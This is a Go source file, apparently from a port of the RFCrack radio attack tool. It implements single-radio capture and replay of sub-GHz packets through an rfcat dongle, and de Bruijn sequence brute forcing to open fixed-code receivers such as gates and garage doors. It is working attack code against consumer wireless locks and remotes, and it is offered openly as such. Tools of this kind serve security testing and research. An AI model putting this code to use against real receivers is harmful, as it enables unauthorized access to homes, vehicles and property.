// Package attack holds the stateful attack procedures: single-radio capture
// and replay, de Bruijn brute forcing, and the dual-radio rolling-code
// bypass.
package attack

import (
	"context"
	"errors"
	"time"

	"go.uber.org/zap"

	"github.com/cclabsInc/RFCrack/capture"
	"github.com/cclabsInc/RFCrack/helper"
	"github.com/cclabsInc/RFCrack/rfcat"
)

// receive timeout per iteration of a continuous listen; matches the 3s
// RFrecv window the dongle firmware uses.
const listenSlice = 3 * time.Second

// Engine is the single-radio capture/replay engine.
type Engine struct {
	store *capture.Store
	log   *zap.Logger
}

func NewEngine(store *capture.Store, log *zap.Logger) *Engine {
	return &Engine{store: store, log: log}
}

func (e *Engine) Store() *capture.Store {
	return e.store
}

// ListenOnce blocks up to timeout for one inbound packet on the handle's
// current frequency and modulation. A nil capture with a nil error means no
// signal arrived: an expected outcome, not a failure.
func (e *Engine) ListenOnce(h *rfcat.Handle, timeout time.Duration) (*capture.Capture, error) {
	data, err := h.Receive(timeout)
	if err != nil {
		return nil, &DriverError{Handle: h.ID, Op: "receive", Err: err}
	}
	if len(data) == 0 {
		return nil, nil
	}

	c, err := capture.New(data, h.Frequency, h.Modulation)
	if err != nil {
		return nil, err
	}
	e.log.Info("capture received",
		zap.String("handle", h.ID),
		zap.Uint32("frequency", c.Frequency),
		zap.Int("bytes", len(c.Data)))
	return c, nil
}

// ListenContinuous receives until the context is cancelled, invoking
// onCapture for every non-empty payload.
func (e *Engine) ListenContinuous(ctx context.Context, h *rfcat.Handle, onCapture func(*capture.Capture)) error {
	for {
		if err := ctx.Err(); err != nil {
			return cancelled(err)
		}
		c, err := e.ListenOnce(h, listenSlice)
		if err != nil {
			return err
		}
		if c != nil {
			onCapture(c)
		}
	}
}

// Replay transmits the capture's bytes repeat times with gap between frames
// on the handle's current settings.
func (e *Engine) Replay(h *rfcat.Handle, c *capture.Capture, repeat int, gap time.Duration) error {
	if h.State() != rfcat.StateIdle {
		return &TransmitError{Handle: h.ID, Err: rfcat.ErrBusy}
	}

	for i := 0; i < repeat; i++ {
		if i > 0 && gap > 0 {
			time.Sleep(gap)
		}
		if err := h.Transmit(c.Data); err != nil {
			if errors.Is(err, rfcat.ErrBusy) {
				return &TransmitError{Handle: h.ID, Err: err}
			}
			return &DriverError{Handle: h.ID, Op: "transmit", Err: err}
		}
	}

	e.log.Info("replay complete",
		zap.String("handle", h.ID),
		zap.Int("frames", repeat),
		zap.Int("bytes", len(c.Data)))
	return nil
}

// ReplayFromStore loads a saved capture, retunes the handle to the given
// settings and replays it once. A missing identifier surfaces as
// capture.ErrNotFound.
func (e *Engine) ReplayFromStore(h *rfcat.Handle, id string, frequency uint32, mod rfcat.Modulation) error {
	c, err := e.store.Load(id)
	if err != nil {
		return err
	}
	if err := h.Configure(frequency, mod); err != nil {
		return &DriverError{Handle: h.ID, Op: "configure", Err: err}
	}
	return e.Replay(h, c, 1, 0)
}

// SendDeBruijn transmits a binary de Bruijn sequence of order n, packed MSB
// first, to brute-force fixed-code receivers.
func (e *Engine) SendDeBruijn(h *rfcat.Handle, n int) error {
	bits := helper.DeBruijn(n)
	payload := helper.PackBits(bits)
	e.log.Info("sending de Bruijn sequence",
		zap.Int("order", n),
		zap.Int("bits", len(bits)))

	if err := h.Transmit(payload); err != nil {
		if errors.Is(err, rfcat.ErrBusy) {
			return &TransmitError{Handle: h.ID, Err: err}
		}
		return &DriverError{Handle: h.ID, Op: "transmit", Err: err}
	}
	return nil
}
